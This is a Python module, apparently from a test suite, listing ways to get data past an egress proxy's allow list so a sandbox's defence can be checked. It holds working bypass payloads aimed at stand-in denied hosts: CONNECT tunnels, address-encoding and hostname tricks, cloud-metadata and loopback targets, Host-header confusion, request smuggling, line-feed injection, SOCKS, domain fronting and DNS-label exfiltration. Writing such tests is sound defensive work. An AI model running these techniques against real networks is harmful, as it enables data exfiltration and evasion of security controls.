"""Ways out through the egress proxy: requests for hosts that are not in `egress.allow`, written in many ways.

With the defence off, a proxy without rules listens on the same port, and passes each request to every host it names."""

import socket
from typing import Any

from hostile.ways_out.network import datagram
from hostile.ways_out.way import To, add, way

PROXY = ("127.0.0.1", 3128)
WAIT = 1.5
GET = "GET {} HTTP/1.1\r\n{}\r\n"


def exchanged(*pieces: str | bytes) -> str:
    """Sends pieces over one connection, each after the proxy has answered the one before. Returns all answers."""
    answers: list[bytes] = []
    with socket.create_connection(PROXY, WAIT) as end:
        for piece in pieces:
            end.sendall(piece.encode("latin-1") if isinstance(piece, str) else piece)
            try:
                answers.append(end.recv(4096))
            except TimeoutError:
                answers.append(b"(no answer)")
    return " | ".join(answer.decode("latin-1")[:60] for answer in answers)


def tunnel(target: str, token: str, host: str = "denied.test") -> str:
    opening = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"
    return exchanged(opening, GET.format(f"/{token}", f"Host: {host}\r\n"))


def _tunnel(target: str) -> Any:
    return lambda to, token: tunnel(target.format(**to), token)


def _request(url: str, *headers: str) -> Any:
    def send(to: To, token: str) -> str:
        lines = "".join(f"{header}\r\n" for header in headers)
        return exchanged(GET.format(url.format(token=token, **to), lines.format(token=token, **to)))

    return send


TUNNELS = {
    "host": ("denied.test:443", "a host that is not allowed"),
    "plain_port": ("denied.test:80", "the HTTP port of a host that is not allowed"),
    "address": ("{far}:443", "an address"),
    "address_six": ("[{far_six}]:443", "an IPv6 address"),
    "mapped": ("[::ffff:{far}]:443", "an IPv4 address within IPv6"),
    "dot": ("denied.test.:443", "a host name that ends with a dot"),
    "suffix": ("allowed.test.denied.test:443", "a name that begins with an allowed one"),
    "prefix": ("evilallowed.test:443", "a name that ends with an allowed one"),
    "wild": ("evilwild.test:443", "a name that ends with an allowed domain"),
    "bare_wild": ("wild.test:443", "the domain above an allowed wildcard"),
    "loopback": ("loopback.wild.test:443", "an allowed name that leads to the loopback of the machine"),
    "own": ("this-machine.wild.test:443", "an allowed name that leads to the address of the machine"),
    "own_six": ("this-machine-six.wild.test:443", "an allowed name that leads to the IPv6 address of the machine"),
    "metadata": ("private-4.wild.test:80", "an allowed name that leads to the metadata service of a cloud"),
    "private": ("private-0.wild.test:80", "an allowed name that leads to a private network"),
    "port": ("allowed.test:8080", "a port that is not allowed, on an allowed host"),
    "ssh": ("allowed.test:22", "the port of SSH on an allowed host"),
}
for _name, (_target, _words) in TUNNELS.items():
    add(f"proxy_tunnel_{_name}", "proxy", f"Opens a tunnel to {_words}.", _tunnel(_target))

REQUESTS: dict[str, tuple[str, tuple[str, ...], str]] = {
    "absolute": ("http://denied.test/{token}", ("Host: denied.test",), "for a host that is not allowed"),
    "decimal": ("http://{far_number}/{token}", ("Host: {far_number}",), "for an address, written as one number"),
    "hexadecimal": ("http://{far_hex}/{token}", ("Host: {far_hex}",), "for an address, written in hexadecimal"),
    "user": ("http://allowed.test@denied.test/{token}", ("Host: denied.test",), "with an allowed host as user name"),
    "secure": ("https://denied.test/{token}", ("Host: denied.test",), "for an `https` address, without a tunnel"),
    "origin": ("/{token}", ("Host: denied.test",), "that names its host in the `Host` header alone"),
    "allowed_host": (
        "http://denied.test/{token}",
        ("Host: allowed.test",),
        "with an allowed name in the `Host` header",
    ),
    "two_hosts": ("/{token}", ("Host: allowed.test", "Host: denied.test"), "with two `Host` headers"),
    "host_list": ("/{token}", ("Host: allowed.test, denied.test",), "with two names in one `Host` header"),
    "upgrade": (
        "http://denied.test/{token}",
        ("Host: denied.test", "Connection: upgrade", "Upgrade: websocket"),
        "that becomes a WebSocket",
    ),
    "udp": (
        "http://denied.test/.well-known/masque/udp/denied.test/53/{token}",
        ("Host: denied.test", "Connection: upgrade", "Upgrade: connect-udp", "Capsule-Protocol: ?1"),
        "for a tunnel of datagrams",
    ),
    "lookup": ("http://{token}.denied.test/", ("Host: {token}.denied.test",), "for a name that contains the data"),
    "port": ("http://allowed.test:8080/{token}", ("Host: allowed.test:8080",), "for a port that is not allowed"),
    "old": ("http://denied.test:80/{token}", (), "without a `Host` header"),
}
for _name, (_url, _headers, _words) in REQUESTS.items():
    add(f"proxy_request_{_name}", "proxy", f"Sends a request {_words}.", _request(_url, *_headers))


@way("proxy", "Sends data in the body of a request.")
def proxy_body(to: To, token: str) -> str:
    return exchanged(f"POST http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\nContent-Length: 8\r\n\r\n{token}")


@way("proxy", "Sends two requests at once, of which the second is for a host that is not allowed.")
def proxy_pipelined(to: To, token: str) -> str:
    first = GET.format("http://allowed.test/", "Host: allowed.test\r\n")
    return exchanged(first + GET.format(f"http://denied.test/{token}", "Host: denied.test\r\n"))


@way("proxy", "Hides a request in the body of another, which has two lengths (request smuggling).")
def proxy_smuggled(to: To, token: str) -> str:
    hidden = "0\r\n\r\n" + GET.format(f"http://denied.test/{token}", "Host: denied.test\r\n")
    head = "POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n"
    return exchanged(f"{head}Content-Length: {len(hidden)}\r\n\r\n{hidden}")


@way("proxy", "Ends lines with a line feed alone, so that a second host is read from what was one header.")
def proxy_line_feed(to: To, token: str) -> str:
    return exchanged(f"GET /{token} HTTP/1.1\nX: y\nHost: denied.test\n\n\r\n\r\n")


@way("proxy", "Speaks SOCKS with the proxy.")
def proxy_socks(to: To, token: str) -> str:
    name = b"denied.test"
    greeting = b"\5\1\0" + b"\5\1\0\3" + bytes([len(name)]) + name + b"\0\x50"
    return exchanged(greeting + GET.format(f"/{token}", "Host: denied.test\r\n").encode())


@way("proxy", "Sends a datagram to the port of the proxy.")
def proxy_datagram(to: To, token: str) -> None:
    datagram(socket.AF_INET, PROXY, token.encode())


@way("proxy", "Asks an allowed host for another one, inside a tunnel (domain fronting).", receiver="allowed",
     exception="All that a tunnel takes: a host of `egress.allow` receives the data, and may pass it on.", except_in=("proxied",),
)  # fmt: skip
def proxy_fronting(to: To, token: str) -> str:
    return tunnel("allowed.test:80", token)


@way("proxy", "Asks for a name below an allowed wildcard, which its name servers see.",
     exception="200 names of 200 bytes in a second, to the name servers of a domain of `egress.allow`.", except_in=("proxied",),
)  # fmt: skip
def proxy_wildcard(to: To, token: str) -> str:
    return exchanged(GET.format(f"http://{token}.wild.test/", f"Host: {token}.wild.test\r\n"))
